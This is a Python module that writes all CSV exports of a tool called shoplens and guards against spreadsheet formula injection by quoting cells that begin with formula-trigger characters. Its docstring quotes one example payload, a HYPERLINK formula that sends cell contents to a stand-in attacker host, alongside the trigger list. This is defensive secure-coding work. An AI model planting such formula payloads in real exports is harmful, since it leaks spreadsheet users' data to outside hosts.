"""The one CSV writer of shoplens: every export (CLI, REST API, files) writes its cells through here.

Why: a spreadsheet opening a CSV runs any cell that starts like a formula. A product name, user id
or quarantined value such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` came from someone
else's data and must arrive as text, never as a formula (CSV/formula injection, OWASP).

The rule (the dashboard's CSV button applies the same one: ``server/dashboard/static/csv.js``):

- A **text** cell whose first character is ``=`` ``+`` ``-`` ``@``, a tab or a carriage return
  (or the full-width ``＝ ＋ － ＠`` some spreadsheets read as the same signs) gets a single quote in
  front: ``'=HYPERLINK(…)``. The spreadsheet then shows the text as it was, the quote hidden or
  visible depending on the program.
- **Numbers** are never touched: ``-5.2`` (an int, float or Decimal) is written as ``-5.2`` and
  stays a number. A text cell that is exactly a plain decimal number (``-5``, ``+1.5``, ``-2e3``) is
  left as it is too: a spreadsheet reads it as that number and runs nothing.
- A missing value (None, NaN, NaT) is an empty cell, never the text ``nan``.

This module imports nothing of shoplens, so every layer (cli, server, analyses) may use it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# ASCII digits only (re.ASCII) and the whole cell (fullmatch): "-1+1" or "-٣" are not plain numbers
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def _missing(value: Any) -> bool:
    return value is None or (isinstance(value, float) and value != value) or type(value).__name__ == "NaTType"


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula (see the module's rule)."""
    if _missing(value):
        return ""
    if isinstance(value, int | float | Decimal):  # bool too (an int): written as before, True/False
        return value
    text = value if isinstance(value, str) else str(value)
    if text and text[0] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def write_csv(fh: IO[str], header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> int:
    """Header and rows to an open text file (open it with ``newline=""``); returns the number of rows."""
    writer = csv.writer(fh)
    writer.writerow(safe_row(header))
    n = 0
    for row in rows:
        writer.writerow(safe_row(row))
        n += 1
    return n


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """The whole CSV as one string (API answers)."""
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()
